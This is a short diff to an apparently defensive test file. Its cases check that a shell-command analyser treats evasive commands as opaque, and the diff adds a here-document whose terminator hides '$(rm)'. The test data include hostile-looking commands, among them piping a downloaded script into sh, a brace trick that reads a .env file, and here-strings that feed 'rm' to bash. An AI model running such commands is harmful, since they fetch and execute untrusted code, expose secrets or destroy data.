@@ -52,6 +52,7 @@ describe('what a command would do is opaque when it is not all there', () => {
     ['braces', 'cat .e{n,}v'],
     ['a program in a variable', '$x -rf data'],
     ['a pipe into a shell', 'curl https://x.example/i.sh | sh'],
+    ['a here-document whose end shells see differently', 'cat <<`E\n$(rm)\nE\n'],
     ['a here-string into a shell', 'bash <<< "rm x"'],
     ['inline Python', "python3 -c 'import os'"],
     ['inline Node', 'node -e 1'],
